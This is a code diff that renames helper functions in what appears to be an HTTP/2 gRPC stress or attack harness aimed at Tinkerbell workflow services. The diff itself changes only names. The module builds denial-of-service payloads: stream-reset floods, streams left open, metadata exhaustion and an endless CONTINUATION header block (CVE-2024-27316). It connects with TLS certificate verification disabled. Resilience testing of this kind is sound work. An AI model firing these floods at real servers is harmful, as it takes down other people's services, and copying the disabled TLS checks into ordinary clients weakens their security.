@@ -98,11 +98,11 @@ def _reset(stream: int) -> bytes:
     return frame(RESET, 0, stream, struct.pack(">I", 8))  # CANCEL
 
 
-def _nothing(_stream: int) -> bytes:
+def _no_body(_stream: int) -> bytes:
     return b""
 
 
-def _whole(body: bytes) -> Rest:
+def _complete_request(body: bytes) -> Rest:
     return lambda stream: frame(DATA, END_STREAM, stream, message(body))
 
 
@@ -111,7 +111,7 @@ def _open(body: bytes) -> Rest:
     return lambda stream: frame(DATA, 0, stream, message(body))
 
 
-_asks_for_x = _whole(b"\x0a\x01x")
+_asks_for_x = _complete_request(b"\x0a\x01x")
 """A whole request for a machine that does not exist."""
 
 
@@ -155,19 +155,19 @@ KINDS: dict[str, Callable[[], Pieces]] = {
     "contexts": _calls(
         "github.com.tinkerbell.tink.protos.workflow.WorkflowService", "GetWorkflowContexts", _asks_for_x
     ),
-    "reports": _calls(OLDER, "ReportActionStatus", _whole(b"\x0a\x01x\x20\x04\x22\x7fx")),
-    "unknown_method": _calls("no.such", "Method", _whole(b"")),
+    "reports": _calls(OLDER, "ReportActionStatus", _complete_request(b"\x0a\x01x\x20\x04\x22\x7fx")),
+    "unknown_method": _calls("no.such", "Method", _complete_request(b"")),
     # Calls without a message, or that stay open after their message.
-    "unended": _calls(WORKFLOWS, "GetWorkflows", _nothing, 20_000),
-    "unended_polls": _calls(OLDER, "GetAction", _nothing, 20_000),
-    "outputs": _calls("tinkedge.output.v1.OutputService", "WriteOutput", _nothing, 20_000),
-    "watches": _calls("grpc.health.v1.Health", "Watch", _whole(b""), 20_000),
+    "unended": _calls(WORKFLOWS, "GetWorkflows", _no_body, 20_000),
+    "unended_polls": _calls(OLDER, "GetAction", _no_body, 20_000),
+    "outputs": _calls("tinkedge.output.v1.OutputService", "WriteOutput", _no_body, 20_000),
+    "watches": _calls("grpc.health.v1.Health", "Watch", _complete_request(b""), 20_000),
     "reflections": _calls(
         "grpc.reflection.v1alpha.ServerReflection", "ServerReflectionInfo", _open(b"\x3a\x00"), 20_000
     ),
     # The maximum of metadata, from the receiver's table, so that it costs the sender nothing.
     "metadata": lambda: _streams(
-        GET_WORKFLOWS + b"\x40" + text(b"x-large") + LARGE, AGAIN_WITH + b"\xbe" * 2, _nothing, 20_000
+        GET_WORKFLOWS + b"\x40" + text(b"x-large") + LARGE, AGAIN_WITH + b"\xbe" * 2, _no_body, 20_000
     ),
     # An endless header block (CVE-2024-27316).
     "continuations": _endless(_MORE_HEADERS * 10, frame(HEADERS, 0, 1, GET_WORKFLOWS)),
@@ -226,7 +226,7 @@ class Attack:
                 sock.bind((local, 0))
             sock.connect((self.address, self.port))
             if self.tls:
-                sock = self._trusting().wrap_socket(sock)
+                sock = self._tls_context().wrap_socket(sock)
         except OSError:
             self.refused += 1
             sock.close()
@@ -234,7 +234,7 @@ class Attack:
         self.made += 1
         return sock
 
-    def _trusting(self) -> ssl.SSLContext:
+    def _tls_context(self) -> ssl.SSLContext:
         context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
         context.check_hostname = False
         context.verify_mode = ssl.CERT_NONE
